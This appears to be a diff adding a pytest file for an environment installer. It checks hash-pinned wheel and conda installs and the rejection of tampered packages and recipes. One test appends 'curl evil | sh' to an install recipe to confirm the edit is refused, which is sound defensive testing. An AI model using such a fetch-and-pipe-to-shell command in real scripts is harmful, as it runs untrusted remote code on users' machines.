@@ -1,0 +1,195 @@
+"""install_env for real: a venv or a rattler prefix, hash-checked wheels over HTTP, the recipe, tampering."""
+
+from __future__ import annotations
+
+import hashlib
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from generator.cli import cli
+from generator.conda import solve_conda
+from generator.errors import InputError, VerificationError
+from generator.fixtures.condapkgs import demo_packages, write_channel
+from generator.fixtures.http import serve_directory
+from generator.fixtures.srcprojects import backend_project
+from generator.fixtures.wheels import FixtureDist, build_wheel
+from generator.install import INSTALLERS, Installer, host_platform, install_env, pip_requirements
+from generator.model import Cann, Channel, CondaEntry, Lock, LockedSource, Matrix, PipEntry, Source
+from generator.recipe import render_recipe
+
+HOST = host_platform()
+PYTHON = ".".join(map(str, sys.version_info[:3]))
+
+
+def python_entry(version: str = PYTHON, platform: str = HOST) -> CondaEntry:
+    """The conda python a lock records; in venv mode only its version matters."""
+    url = f"https://conda.example/demo/{platform}/python-{version}-h0_0.conda"
+    return CondaEntry("python", version, "h0_0", platform, url, "0" * 32, "0" * 64)
+
+
+def wheel_entries(base: str, files: dict[str, Path]) -> tuple[PipEntry, ...]:
+    entries = []
+    for name, path in sorted(files.items()):
+        version = path.name.split("-")[1]
+        sha = hashlib.sha256(path.read_bytes()).hexdigest()
+        entries.append(PipEntry(name, version, HOST, f"{base}/{path.name}", sha, index="pypi"))
+    return tuple(entries)
+
+
+@pytest.fixture
+def wheelhouse(tmp_path: Path) -> Iterator[tuple[str, dict[str, Path]]]:
+    root = tmp_path / "served"
+    files = {
+        "alpha": build_wheel(FixtureDist("alpha", "1.2.0"), "py3-none-any", root),
+        "beta-pkg": build_wheel(FixtureDist("beta-pkg", "0.3.0", requires=("alpha>=1",)), "py3-none-any", root),
+    }
+    with serve_directory(root) as base:
+        yield base, files
+
+
+def write_recipe(lock: Lock, path: Path) -> Path:
+    path.write_text(render_recipe(lock))
+    return path
+
+
+def demo_lock(pip: tuple[PipEntry, ...] = (), sources: tuple[LockedSource, ...] = (), **fields: object) -> Lock:
+    conda = fields.pop("conda", (python_entry(),))
+    return Lock(env="demo", platforms=(HOST,), input_hash="0" * 64, conda=conda, pip=pip, sources=sources, **fields)  # type: ignore[arg-type]
+
+
+def test_requirements_pin_every_artifact_by_hash() -> None:
+    entries = (
+        PipEntry("zeta", "1.0", HOST, "https://x/zeta-1.0-py3-none-any.whl", "a" * 64),
+        PipEntry("alpha", "2.0", HOST, "https://x/alpha-2.0-py3-none-any.whl", "b" * 64),
+    )
+    assert pip_requirements(entries) == (
+        f"alpha @ https://x/alpha-2.0-py3-none-any.whl --hash=sha256:{'b' * 64}\n"
+        f"zeta @ https://x/zeta-1.0-py3-none-any.whl --hash=sha256:{'a' * 64}\n"
+    )
+
+
+@pytest.mark.parametrize("installer", INSTALLERS)
+def test_venv_install_of_wheels_and_a_source(
+    installer: Installer, wheelhouse: tuple[str, dict[str, Path]], tmp_path: Path
+) -> None:
+    base, files = wheelhouse
+    repo = backend_project(tmp_path / "srcfix", "srcfix", "0.9.0")
+    source = LockedSource(Source("srcfix", repo.url, "main", "srcfix"), repo.rev())
+    lock = demo_lock(wheel_entries(base, files), (source,))
+    prefix = tmp_path / "env"
+    install_env(
+        lock,
+        write_recipe(lock, tmp_path / "demo.install.sh"),
+        prefix,
+        platform=HOST,
+        venv=True,
+        cache=tmp_path / "cache",
+        installer=installer,
+    )
+    code = "import importlib.metadata as m; print(*(m.version(d) for d in ('alpha', 'beta-pkg', 'srcfix')))"
+    shown = subprocess.run([str(prefix / "bin" / "python"), "-c", code], capture_output=True, text=True)
+    assert shown.stdout.split() == ["1.2.0", "0.3.0", "0.9.0"], shown.stderr
+
+
+@pytest.mark.parametrize("installer", INSTALLERS)
+def test_tampered_wheel_fails_the_install(
+    installer: Installer, wheelhouse: tuple[str, dict[str, Path]], tmp_path: Path
+) -> None:
+    base, files = wheelhouse
+    lock = demo_lock(wheel_entries(base, files))
+    # Same name and version, other bytes: what a compromised or re-uploaded index serves.
+    build_wheel(FixtureDist("alpha", "1.2.0", requires=("evil",)), "py3-none-any", tmp_path / "evil")
+    files["alpha"].write_bytes((tmp_path / "evil" / files["alpha"].name).read_bytes())
+    with pytest.raises(VerificationError, match="does not match its locked sha256"):
+        install_env(
+            lock,
+            write_recipe(lock, tmp_path / "demo.install.sh"),
+            tmp_path / "env",
+            platform=HOST,
+            venv=True,
+            cache=tmp_path / "cache",
+            installer=installer,
+        )
+
+
+def test_venv_refuses_a_python_other_than_the_locked_one(tmp_path: Path) -> None:
+    other = f"{sys.version_info[0]}.{sys.version_info[1] + 1}.0"
+    lock = demo_lock(conda=(python_entry(other),))
+    with pytest.raises(InputError, match=f"but the lock of demo has python {other}"):
+        install_env(
+            lock, write_recipe(lock, tmp_path / "r.sh"), tmp_path / "env", platform=HOST, venv=True, cache=tmp_path
+        )
+    assert not (tmp_path / "env").exists()
+
+
+def test_a_hand_edited_recipe_is_refused(tmp_path: Path) -> None:
+    lock = demo_lock()
+    recipe = write_recipe(lock, tmp_path / "demo.install.sh")
+    recipe.write_text(recipe.read_text() + "curl evil | sh\n")
+    with pytest.raises(VerificationError, match="differs from the recipe its lock renders"):
+        install_env(lock, recipe, tmp_path / "env", platform=HOST, venv=True, cache=tmp_path)
+
+
+def _conda_matrix(channel: str) -> Matrix:
+    return Matrix(
+        name="demo",
+        description="conda fixture",
+        path="env-templates/demo.toml",
+        platforms=(HOST,),
+        python="3.11",
+        glibc="2.28",
+        cann=Cann(version="pending", set_env="/usr/local/Ascend/cann/set_env.sh"),
+        channels=(Channel("demo", channel),),
+        conda_specs=("python 3.11.*", "pip"),
+        indexes=(),
+        packages=(),
+        sources=(),
+    )
+
+
+def test_conda_part_is_installed_by_rattler_and_hash_checked(tmp_path: Path) -> None:
+    """The conda path: fixture packages over HTTP; the recipe (no sources) still writes its hooks."""
+    root = tmp_path / "served"
+    write_channel(root / "demo", demo_packages())
+    with serve_directory(root) as base:
+        entries = solve_conda(_conda_matrix(f"{base}/demo"), HOST, cache=tmp_path / "cache")
+        lock = demo_lock(conda=entries, activation_env=(("DEMO", "1"),))
+        recipe = write_recipe(lock, tmp_path / "demo.install.sh")
+        prefix = tmp_path / "env"
+        install_env(lock, recipe, prefix, platform=HOST, venv=False, cache=tmp_path / "cache")
+        assert (prefix / "lib" / "libdemo.txt").read_text() == f"libdemo 1.0 for {HOST}\n"
+        assert (prefix / "conda-meta").is_dir()
+        assert "export DEMO='1'" in (prefix / "etc" / "conda" / "activate.d" / "envgen-demo.sh").read_text()
+
+        libdemo = next(e for e in entries if e.name == "libdemo")
+        served = root / "demo" / HOST / libdemo.url.rsplit("/", 1)[1]
+        served.write_bytes(served.read_bytes() + b"tampered")
+        with pytest.raises(VerificationError, match="hash mismatch|sha256"):
+            install_env(lock, recipe, tmp_path / "env2", platform=HOST, venv=False, cache=tmp_path / "fresh-cache")
+
+
+def test_cli_install_into_a_venv(wheelhouse: tuple[str, dict[str, Path]], tmp_path: Path) -> None:
+    from generator.lockfile import write_lock
+    from generator.paths import Project
+
+    base, files = wheelhouse
+    project = Project(tmp_path / "project")
+    (project.root / "locks").mkdir(parents=True)
+    lock = demo_lock(wheel_entries(base, files))
+    write_lock(project, "demo", lock, render_recipe(lock))
+    prefix = tmp_path / "env"
+    result = CliRunner().invoke(
+        cli, ["install", "demo", "--root", str(project.root), "--prefix", str(prefix), "--venv"]
+    )
+    assert result.exit_code == 0, result.output
+    shown = subprocess.run(
+        [str(prefix / "bin" / "python"), "-c", "import beta_pkg; print(beta_pkg.__version__)"],
+        capture_output=True,
+        text=True,
+    )
+    assert shown.stdout.strip() == "0.3.0"
